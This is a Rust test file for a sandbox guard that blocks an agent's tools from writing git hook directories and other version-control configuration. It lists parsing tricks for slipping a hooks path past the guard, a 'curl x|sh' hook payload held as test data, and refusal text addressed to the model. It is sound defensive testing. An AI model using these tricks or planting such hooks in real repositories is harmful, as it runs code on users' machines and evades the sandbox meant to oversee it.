//! The guard's view of git's configuration, hard links that outlive a
//! lift, and the other version-control systems whose files run code
//! (issue 37, sections 4 and 6): each attack through the real binary,
//! then a good call that still works.

use serde_json::json;

use super::common::stderr_of_failure;
use super::escape::Repo;

/// The whole refusal the model reads for a change of `path` in `protected`.
fn refusal(tool: &str, path: &str, protected: &str, why: &str) -> String {
    format!(
        "error: `{tool}` may not change `{path}`: `{protected}` is protected ({why}). No tool may \
         change it, even with write access to the workspace. Leave it as it is and work \
         elsewhere; if it must change, ask the user, who can lift this for one tool with \
         `--allow-write {tool}={protected}`.\n"
    )
}

const HOOKS_WHY: &str = "git's `core.hooksPath` names it, and git runs the hooks there";

/// git skips a byte order mark at the start of a config file and ends a
/// comment at its newline even after a `\`: the `core.hooksPath` after such
/// a line is git's, and the hook there is the user's.
#[test]
fn a_hooks_path_after_a_byte_order_mark_and_a_continued_comment_is_protected() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write(
        ".git/config",
        "\u{feff}# hooks live in the tree \\\n[core]\n\thooksPath = hooks\n",
    );
    let hook = "#!/bin/sh\nexec ./check\n";
    ws.write("hooks/pre-commit", hook);
    // What git itself reads there, where git is on PATH.
    if let Ok(out) = std::process::Command::new("git")
        .args(["config", "--file", ".git/config", "core.hooksPath"])
        .current_dir(ws.path())
        .output()
    {
        assert_eq!(String::from_utf8_lossy(&out.stdout), "hooks\n");
    }
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "hooks/pre-commit", "text": "#!/bin/sh\ncurl x|sh\n"}),
            &[],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("raw", "hooks/pre-commit", "hooks", HOOKS_WHY),
        "{err}"
    );
    // The standard tool is refused before any wasm runs, with the same text.
    let err = stderr_of_failure(
        &mut ws.call(
            "write_file",
            &json!({"path": "hooks/pre-commit", "content": "x"}).to_string(),
            &["--allow-write", "."],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("write_file", "hooks/pre-commit", "hooks", HOOKS_WHY)
    );
    assert_eq!(ws.read("hooks/pre-commit"), hook);
    repo.assert_still_works(0);
}

/// The same through CRLF line ends, a `;` comment ending in `\` inside a
/// value, and a second `[core]` section.
#[test]
fn a_hooks_path_git_reads_through_crlf_and_comments_in_values_is_protected() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write(
        ".git/config",
        "[core]\r\n\tbare = false ; note \\\r\n[CORE]\r\n\tHooksPath = \"ci/hooks\" # x\r\n",
    );
    ws.mkdir("ci/hooks");
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "ci/hooks/pre-push", "text": "x"}),
            &[],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("raw", "ci/hooks/pre-push", "ci/hooks", HOOKS_WHY)
    );
    repo.assert_still_works(0);
}

/// Sapling, Pijul, darcs, Breezy, Subversion and Fossil: their
/// configuration runs hooks (or hides a change from their `diff`), as
/// `.hg`'s and `.jj`'s do.
#[test]
fn other_version_control_systems_configs_cannot_be_changed() {
    let repo = Repo::new();
    let ws = &repo.ws;
    let files = [
        (
            ".sl/config",
            ".sl",
            "Sapling runs the hooks its `config` there names",
        ),
        (
            ".pijul/config",
            ".pijul",
            "Pijul runs the hooks its `config` there names at every record",
        ),
        (
            "_darcs/prefs/defaults",
            "_darcs",
            "darcs runs the pre- and posthooks its `prefs/defaults` there names",
        ),
        (
            ".bzr/branch/branch.conf",
            ".bzr",
            "Breezy and Bazaar read the branch configuration there, which names code to run \
             (`post_commit`), and the history `bzr diff` compares with",
        ),
        (
            ".svn/wc.db",
            ".svn",
            "Subversion keeps the pristine copies there that `svn diff` and `svn status` \
             compare with, so a change there hides a change from them",
        ),
        (
            ".fslckout",
            ".fslckout",
            "Fossil's checkout names the repository whose hooks `fossil commit` runs",
        ),
        (
            "_FOSSIL_",
            "_FOSSIL_",
            "Fossil's checkout names the repository whose hooks `fossil commit` runs",
        ),
    ];
    for (n, (file, protected, why)) in files.iter().enumerate() {
        ws.write(file, "[hooks]\n");
        ws.write(&format!("vendor/x/{file}"), "[hooks]\n");
        for path in [file.to_string(), format!("vendor/x/{file}")] {
            let err = stderr_of_failure(
                &mut repo.raw(
                    &json!({"op": "write", "path": path, "text": "[hooks]\nrecord = [\"sh x\"]\n"}),
                    &[],
                ),
                1,
            );
            let hit = path.replacen(file, protected, 1);
            assert_eq!(err, refusal("raw", &path, &hit, why), "{path}");
        }
        assert_eq!(ws.read(file), "[hooks]\n");
        repo.assert_still_works(n);
    }
}
